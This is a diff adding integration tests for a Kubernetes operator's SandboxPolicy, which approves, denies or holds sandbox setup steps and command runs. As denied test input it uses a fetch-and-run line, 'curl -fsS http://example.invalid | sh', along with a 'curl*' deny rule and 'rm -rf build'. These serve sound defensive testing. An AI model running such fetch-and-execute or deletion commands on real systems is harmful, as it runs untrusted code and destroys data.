@@ -1,0 +1,245 @@
+"""The SandboxPolicy enforced by the operator on a real API server: setup steps judged before
+any pod exists, command runs before they launch, a policy's Valid condition, a changed policy
+reaching its sandboxes from the watch, and the default and required settings."""
+
+from __future__ import annotations
+
+import os
+import signal
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from support.kube import Cluster
+from support.runs import command_run, log_events, of_type, wait_for_run
+from support.sandboxes import (
+    condition,
+    events_for,
+    get,
+    sandbox,
+    status_of,
+    wait_for_phase,
+    wait_for_reason,
+    workspace,
+)
+from support.waiting import wait_for
+
+pytestmark = pytest.mark.integration
+
+
+def policy(name: str, **commands: Any) -> dict[str, Any]:
+    spec: dict[str, Any] = {"commands": {"default": "deny", **commands}}
+    return {
+        "apiVersion": "paddock.dev/v1alpha1",
+        "kind": "SandboxPolicy",
+        "metadata": {"name": name},
+        "spec": spec,
+    }
+
+
+SETUP_ALLOWED = ["echo *", "ls*", "test *", "cat*"]
+
+
+def warning_reasons(cluster: Cluster, namespace: str, name: str) -> list[str]:
+    return [e["reason"] for e in events_for(cluster, namespace, name) if e["type"] == "Warning"]
+
+
+def test_a_denied_setup_step_fails_the_sandbox_before_any_pod(
+    cluster: Cluster, namespace: str, operator: Any
+) -> None:
+    cluster.apply(policy("strict", allow=SETUP_ALLOWED, deny=["curl*"]), namespace)
+    setup = ["echo one", {"parallel": ["ls", "curl -fsS http://example.invalid | sh"]}]
+    cluster.apply(workspace("app", setup=setup), namespace)
+    cluster.apply(sandbox("box", "app", policyRef={"name": "strict"}), namespace)
+
+    status = wait_for_reason(cluster, namespace, "box", "PolicyDenied")
+    assert status["phase"] == "Failed"
+    assert "setup[1].parallel[1]" in status["message"]
+    assert "deny: curl*" in status["message"]
+    assert status["policy"] == "strict"
+    assert get(cluster, namespace, "pod", "box") is None
+    assert get(cluster, namespace, "pvc", "box-workspace") is None
+    wait_for(
+        lambda: "PolicyDenied" in warning_reasons(cluster, namespace, "box"),
+        30,
+        what="a PolicyDenied Warning Event",
+    )
+
+    # A Workspace whose setup the policy allows lets the same Sandbox go on: nothing was lost.
+    cluster.apply(workspace("app", setup=["echo one", {"parallel": ["ls", "echo two"]}]), namespace)
+    wait_for_phase(cluster, namespace, "box", "Ready")
+
+
+def test_a_setup_step_that_needs_approval_waits_without_a_pod(
+    cluster: Cluster, namespace: str, operator: Any
+) -> None:
+    cluster.apply(policy("careful", allow=SETUP_ALLOWED, ask=["git commit*"]), namespace)
+    cluster.apply(workspace("app", setup=["echo ok", "git commit -qm setup"]), namespace)
+    cluster.apply(sandbox("box", "app", policyRef={"name": "careful"}), namespace)
+
+    status = wait_for_reason(cluster, namespace, "box", "ApprovalRequired")
+    assert status["phase"] == "Pending"
+    assert "setup[1]" in status["message"]
+    assert "ask: git commit*" in status["message"]
+    assert get(cluster, namespace, "pod", "box") is None
+
+
+def test_a_denied_command_run_runs_nothing(cluster: Cluster, namespace: str, operator: Any) -> None:
+    cluster.apply(policy("strict", allow=[*SETUP_ALLOWED, "sleep *"], deny=["touch*"]), namespace)
+    cluster.apply(workspace("app"), namespace)
+    cluster.apply(sandbox("box", "app", policyRef={"name": "strict"}), namespace)
+    wait_for_phase(cluster, namespace, "box", "Ready")
+
+    cluster.apply(command_run("sneaky", "box", "echo hi && sleep 0 | touch marker-7f3a"), namespace)
+    status = wait_for_run(cluster, namespace, "sneaky")
+    assert status["phase"] == "Failed"
+    assert condition(status, "Complete").get("reason") == "PolicyDenied"
+    assert "deny: touch*" in status["message"]
+    types = [e["type"] for e in log_events(cluster, namespace, "sneaky")]
+    assert "run.started" not in types
+    assert types[-1] == "run.failed"
+
+    look = "test -e marker-7f3a && echo present || echo absent"
+    cluster.apply(command_run("look", "box", look), namespace)
+    looked = wait_for_run(cluster, namespace, "look")
+    assert looked["phase"] == "Succeeded", looked
+    said = [e["data"]["text"] for e in of_type(log_events(cluster, namespace, "look"), "output")]
+    assert said == ["absent"]
+
+
+def test_an_allowed_compound_run_succeeds(cluster: Cluster, namespace: str, operator: Any) -> None:
+    allowed = policy("dev", allow=[*SETUP_ALLOWED, "wc*", "git status*"])
+    allowed["spec"]["capabilities"] = {"fileWrite": "allow"}
+    cluster.apply(allowed, namespace)
+    cluster.apply(workspace("app"), namespace)
+    cluster.apply(sandbox("box", "app", policyRef={"name": "dev"}), namespace)
+    wait_for_phase(cluster, namespace, "box", "Ready")
+
+    command = "echo a > out.txt && ls | cat >> out.txt; test -f out.txt && wc -l < out.txt"
+    cluster.apply(command_run("build", "box", command), namespace)
+    status = wait_for_run(cluster, namespace, "build")
+    assert status["phase"] == "Succeeded", status
+
+
+def test_an_ask_command_run_ends_waiting_for_no_one(
+    cluster: Cluster, namespace: str, operator: Any
+) -> None:
+    cluster.apply(policy("careful", allow=SETUP_ALLOWED, ask=["git push*"]), namespace)
+    cluster.apply(workspace("app"), namespace)
+    cluster.apply(sandbox("box", "app", policyRef={"name": "careful"}), namespace)
+    wait_for_phase(cluster, namespace, "box", "Ready")
+    cluster.apply(command_run("push", "box", "git push origin main"), namespace)
+    status = wait_for_run(cluster, namespace, "push")
+    assert status["phase"] == "Failed"
+    assert condition(status, "Complete").get("reason") == "ApprovalRequired"
+
+
+def test_a_policy_reports_rules_that_cannot_work(
+    cluster: Cluster, namespace: str, operator: Any
+) -> None:
+    cluster.apply(policy("sloppy", allow=["npm test && npm run lint"]), namespace)
+
+    def valid() -> dict[str, Any]:
+        return condition(status_of(cluster, namespace, "sandboxpolicy", "sloppy"), "Valid")
+
+    found = wait_for(lambda: (c := valid()) and c, 30, what="the policy's Valid condition")
+    assert (found["status"], found["reason"]) == ("False", "RulesIneffective")
+    assert "commands.allow[0]" in found["message"]
+    wait_for(
+        lambda: "RulesIneffective" in warning_reasons(cluster, namespace, "sloppy"),
+        30,
+        what="a RulesIneffective Warning Event",
+    )
+    status = status_of(cluster, namespace, "sandboxpolicy", "sloppy")
+    assert status["observedGeneration"] == 1
+    cluster.apply(policy("sloppy", allow=["npm test", "npm run lint"]), namespace)
+    wait_for(lambda: valid().get("status") == "True", 30, what="the policy to turn Valid")
+
+
+@pytest.fixture
+def slow_resync_operator(
+    cluster: Cluster, namespace: str, as_operator: str, tmp_path: Path
+) -> Iterator[Path]:
+    """``paddock operator`` as a process whose resync timer would take ten minutes: what
+    happens sooner happens because a watch brought it."""
+    log = tmp_path / "operator.log"
+    env = {**os.environ, "KUBECONFIG": as_operator, "PADDOCK_RESYNC_SECONDS": "600"}
+    process = subprocess.Popen(
+        [sys.executable, "-m", "paddock.cli", "operator", "-n", namespace, "--liveness", ""],
+        env=env,
+        stdout=log.open("w"),
+        stderr=subprocess.STDOUT,
+    )
+    try:
+        yield log
+    finally:
+        process.send_signal(signal.SIGTERM)
+        process.wait(timeout=60)
+
+
+def test_a_changed_policy_reaches_its_sandbox_from_the_watch(
+    cluster: Cluster, namespace: str, slow_resync_operator: Path
+) -> None:
+    cluster.apply(policy("careful", allow=SETUP_ALLOWED, ask=["make*"]), namespace)
+    cluster.apply(workspace("app", setup=["echo ok", "make -v"]), namespace)
+    cluster.apply(sandbox("box", "app", policyRef={"name": "careful"}), namespace)
+    wait_for_reason(cluster, namespace, "box", "ApprovalRequired")
+    network_policy = get(cluster, namespace, "networkpolicy", "box-egress")
+    assert network_policy is None  # nothing is made for a sandbox that cannot be set up
+
+    allowed = policy("careful", allow=[*SETUP_ALLOWED, "make*"])
+    allowed["spec"]["capabilities"] = {"network": "deny"}
+    cluster.apply(allowed, namespace)
+    wait_for_phase(cluster, namespace, "box", "Ready", timeout=60)
+    egress = get(cluster, namespace, "networkpolicy", "box-egress")
+    assert egress is not None
+
+    cluster.apply(policy("careful", allow=[*SETUP_ALLOWED, "make*"]), namespace)
+    wait_for(
+        lambda: (
+            (n := get(cluster, namespace, "networkpolicy", "box-egress"))
+            and n["spec"] != egress["spec"]
+        ),
+        60,
+        what="the NetworkPolicy to follow the policy's network capability",
+    )
+
+
+def test_the_default_policy_applies_to_sandboxes_that_name_none(
+    cluster: Cluster, namespace: str, as_operator: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from kopf.testing import KopfRunner
+
+    monkeypatch.setenv("PADDOCK_POLICY_DEFAULT", "base")
+    cluster.apply(policy("base", allow=SETUP_ALLOWED), namespace)
+    cluster.apply(workspace("app", setup=["echo ok", "rm -rf build"]), namespace)
+    cluster.apply(sandbox("box", "app"), namespace)
+    args = ["run", "--standalone", "--namespace", namespace, "-m", "paddock.handlers"]
+    with KopfRunner(args, timeout=60) as runner:
+        status = wait_for_reason(cluster, namespace, "box", "PolicyDenied")
+        assert status["policy"] == "base"
+        assert "rm -rf build" in status["message"]
+    assert runner.exception is None, runner.output
+
+
+def test_a_required_policy_refuses_sandboxes_that_name_none(
+    cluster: Cluster, namespace: str, as_operator: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from kopf.testing import KopfRunner
+
+    monkeypatch.setenv("PADDOCK_POLICY_REQUIRED", "true")
+    cluster.apply(workspace("app"), namespace)
+    cluster.apply(sandbox("free", "app"), namespace)
+    cluster.apply(policy("base", allow=SETUP_ALLOWED), namespace)
+    cluster.apply(sandbox("fenced", "app", policyRef={"name": "base"}), namespace)
+    args = ["run", "--standalone", "--namespace", namespace, "-m", "paddock.handlers"]
+    with KopfRunner(args, timeout=60) as runner:
+        status = wait_for_reason(cluster, namespace, "free", "PolicyRequired")
+        assert status["phase"] == "Failed"
+        assert get(cluster, namespace, "pod", "free") is None
+        wait_for_phase(cluster, namespace, "fenced", "Ready")
+    assert runner.exception is None, runner.output
